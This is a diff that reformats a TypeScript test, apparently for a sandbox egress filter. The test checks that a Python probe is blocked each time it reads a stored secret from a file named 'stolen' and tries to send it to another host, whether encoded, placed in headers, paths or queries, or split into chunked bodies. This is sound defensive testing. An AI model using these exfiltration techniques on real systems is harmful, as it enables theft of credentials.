@@ -6,10 +6,12 @@ import { EgressBox } from '../support/egress-box.ts';
 const SPELLINGS = ['raw', 'base64', 'shifted', 'base64url', 'hex', 'upper', 'url', 'json', 'basic'];
 
 for (const dlp of [false, true])
-  forEachTier(`the real secret from inside is an alarm, ${dlp ? 'with' : 'without'} scanning`, async (tier) => {
-    await using box = new EgressBox(tier, { dlp });
-    box.write('stolen', box.secret);
-    const result = await box.probe(`
+  forEachTier(
+    `the real secret from inside is an alarm, ${dlp ? 'with' : 'without'} scanning`,
+    async (tier) => {
+      await using box = new EgressBox(tier, { dlp });
+      box.write('stolen', box.secret);
+      const result = await box.probe(`
 import urllib.parse
 secret = open('stolen').read()
 data = secret.encode()
@@ -26,11 +28,17 @@ ask('header-name', 'GET', '/', (secret.replace('_', '-') + ': 1',), host=OTHER)
 raw('chunks', head('POST', '/', ('Transfer-Encoding: chunked', 'Connection: close'), OTHER) + b''.join(b'1\\r\\n%c\\r\\n' % byte for byte in data) + b'0\\r\\n\\r\\n', OTHER)
 control()
 `);
-    const places = SPELLINGS.flatMap((name) => [`body-${name}`, `header-${name}`]);
-    const names = [...places, 'own-place', 'path', 'query-name', 'header-name', 'chunks'];
-    box.expectHeld(result, Object.fromEntries(names.map((name) => [name, dlp ? '403 ' : '403 structural.credential.leak'])));
-    expect(box.received).not.toContain('X-Note');
-    expect(box.records().filter((record) => record.kind === 'credential.alarm').length).toBe(names.length);
-    // The record of an alarm must not become the leak.
-    expect(box.records().filter((record) => JSON.stringify(record).includes(box.secret.slice(0, 40)))).toEqual([]);
-  });
+      const places = SPELLINGS.flatMap((name) => [`body-${name}`, `header-${name}`]);
+      const names = [...places, 'own-place', 'path', 'query-name', 'header-name', 'chunks'];
+      box.expectHeld(
+        result,
+        Object.fromEntries(names.map((name) => [name, dlp ? '403 ' : '403 structural.credential.leak'])),
+      );
+      expect(box.received).not.toContain('X-Note');
+      expect(box.records().filter((record) => record.kind === 'credential.alarm').length).toBe(names.length);
+      // The record of an alarm must not become the leak.
+      expect(
+        box.records().filter((record) => JSON.stringify(record).includes(box.secret.slice(0, 40))),
+      ).toEqual([]);
+    },
+  );
